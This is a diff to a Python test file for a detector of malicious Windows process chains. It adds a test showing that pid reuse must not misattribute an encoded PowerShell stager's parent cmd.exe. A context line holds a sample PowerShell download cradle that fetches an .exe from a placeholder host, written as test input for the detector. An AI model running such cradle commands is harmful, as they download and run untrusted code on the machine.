@@ -78,3 +78,22 @@ def test_download_cradle_words():
     assert is_download_cradle("$c = New-Object Net.WebClient; $c.DownloadFile('https://x.example/a.exe', $p)")
     assert not is_download_cradle(CONFIG)
     assert not is_download_cradle("Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe")
+
+
+def test_a_cmd_joined_by_pid_is_the_one_holding_it_when_powershell_started():
+    """Security 4688 has no GUIDs: the PowerShell's cmd.exe is found by pid, and Windows reuses pids.  A later
+    cmd.exe given the same pid by a user's shell made the stager's starter explorer.exe (no hit); a later one
+    started by Office made a user's encoded configuration a stager (red team T15 finding 3)."""
+    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
+
+    def cmd(event_id: str, ts: float, starter: str) -> tuple:
+        return (event_id, "winsec:process_create", ts, {"process.executable": CMD, "process.command_line": "cmd.exe /c run.bat",
+                                                         "process.pid": 700, "process.parent.executable": starter})
+
+    ps = ("e-ps", "winsec:process_create", 11.0,
+          {"process.executable": PS, "process.command_line": f"powershell -nop -enc {encoded(CONFIG)}",
+           "process.parent.executable": CMD, "process.parent.pid": 700, "process.command_line_decoded": CONFIG})
+    later = [cmd("e-cmd", 10.0, word), ps, cmd("e-later", 50.0, r"C:\Windows\explorer.exe")]
+    assert [(h.rule, h.event_id) for h in chain_hits("ws-1", later)] == [("cmd_stager", "e-ps")]
+    users = [cmd("e-cmd", 10.0, r"C:\Windows\explorer.exe"), ps, cmd("e-word", 50.0, word)]
+    assert chain_hits("ws-1", users) == []
